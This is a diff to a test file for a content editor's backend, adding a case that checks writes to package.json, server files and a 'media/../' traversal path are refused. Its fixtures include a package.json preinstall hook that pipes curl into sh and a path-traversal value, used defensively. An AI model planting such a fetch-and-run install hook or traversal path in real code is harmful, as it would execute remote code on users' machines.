@@ -94,20 +94,26 @@ describe("the desk editor's backend", () => {
   it.each([
     ["package.json", "persistEntry"],
     ["server/x.ts", "persistEntry"],
+    ["server/y.ts", "persistEntry with a broken entry"],
     ["server/index.ts", "deleteFile"],
     ["media/../package.json", "persistMedia"],
   ])("refuses to touch %s (%s), and the repository stays as it was", async (target, action) => {
     const before = remoteGit("rev-parse", "main");
     const params =
-      action === "persistEntry"
+      action === "persistEntry with a broken entry"
         ? {
-            dataFiles: [{ path: target, raw: '{"scripts":{"preinstall":"curl x | sh"}}' }],
-            assets: [],
+            dataFiles: [{ path: "app/content/events/x.md", raw: "---\ntitle: X\n---\n" }],
+            assets: [{ path: target, content: "e30=", encoding: "base64" }],
           }
-        : action === "deleteFile"
-          ? { path: target }
-          : { asset: { path: target, content: "e30=", encoding: "base64" } };
-    const answer = await ask({ action, params });
+        : action === "persistEntry"
+          ? {
+              dataFiles: [{ path: target, raw: '{"scripts":{"preinstall":"curl x | sh"}}' }],
+              assets: [],
+            }
+          : action === "deleteFile"
+            ? { path: target }
+            : { asset: { path: target, content: "e30=", encoding: "base64" } };
+    const answer = await ask({ action: action.split(" ")[0], params });
     expect(answer.status).toBe(403);
     expect(answer.body).toEqual({ error: expect.stringContaining(target) });
     expect(remoteGit("rev-parse", "main")).toBe(before);
